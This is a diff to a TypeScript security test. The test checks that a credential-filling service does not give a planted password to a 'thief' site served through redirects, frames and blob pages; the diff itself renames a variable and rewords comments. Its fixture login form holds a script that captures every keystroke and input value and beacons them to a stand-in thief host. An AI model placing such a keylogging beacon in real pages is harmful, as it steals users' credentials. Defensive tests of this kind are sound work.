@@ -15,7 +15,7 @@ await requireSandbox();
 const username = 'ann';
 const password = 'Pl4nted-p4ssword';
 
-/** The site that the password is for, and one of somebody else, each with pages that a test sets. */
+/** The site that the password is for, and the site of a thief, each with pages that a test sets. */
 const site = webSite('127.0.0.1');
 const thief = webSite('127.0.0.2');
 /** A proxy that leads every name but the site's to the thief, as the DNS of a domain does that is the thief's. */
@@ -67,8 +67,8 @@ function webSite(address: string) {
     let body = '';
     for await (const chunk of request) body += String(chunk);
     const basic = request.headers.authorization?.replace(/^Basic /, '');
-    const told = [...searchParams.values(), ...new URLSearchParams(body).values()].filter((text) => text !== '');
-    self.got.push(...told, ...(basic ? [Buffer.from(basic, 'base64').toString()] : []));
+    const values = [...searchParams.values(), ...new URLSearchParams(body).values()].filter((text) => text !== '');
+    self.got.push(...values, ...(basic ? [Buffer.from(basic, 'base64').toString()] : []));
     const page = self.pages[pathname];
     response.setHeader('content-type', 'text/html');
     if (typeof page === 'function') page(request, response);
@@ -89,7 +89,7 @@ const form = (url: string, { user = 'user', pass = 'pass', action = `${url}/logi
   <label>Password <input id="${pass}" name="${pass}" type="password"></label><button>Sign in</button></form>
   <script>for (const kind of ['input', 'keydown']) addEventListener(kind, ({ target, key }) => {
     const seen = kind === 'input' ? target.value : key === 'Unidentified' ? '' : key;
-    navigator.sendBeacon('${url}/told?' + new URLSearchParams({ seen }));
+    navigator.sendBeacon('${url}/typed?' + new URLSearchParams({ seen }));
   }, true)</script>`;
 const atThief = () => form(thief.url);
 const inFrame = (src: string) => `<h1>Welcome</h1><iframe src="${src}" width="600" height="400"></iframe>`;
@@ -120,7 +120,7 @@ function takesPasswords(loginForm: () => string): void {
 }
 
 let made = 0;
-/** A connection with a credential, and nobody there to ask. */
+/** A connection with a credential. No person answers questions. */
 async function connection(more: object = {}): Promise<string> {
   const name = `attacked-${++made}`;
   await must(service, 'POST', '/credentials', { name, domain: '127.0.0.1', values: { username, password } });
@@ -163,7 +163,7 @@ const places: Record<string, () => void> = {
     site.pages['/login'] = redirectTo(() => `${thief.url}/page`);
     thief.pages['/page'] = asBlob(atThief());
   },
-  'a sandboxed frame, whose origin is nobody’s': () => {
+  'a sandboxed frame, whose origin is opaque': () => {
     site.pages['/login'] = `<h1>Welcome</h1>${srcdoc(atThief(), 'sandbox="allow-scripts allow-forms"')}`;
   },
   'the site’s own form in a frame of another site': () => {
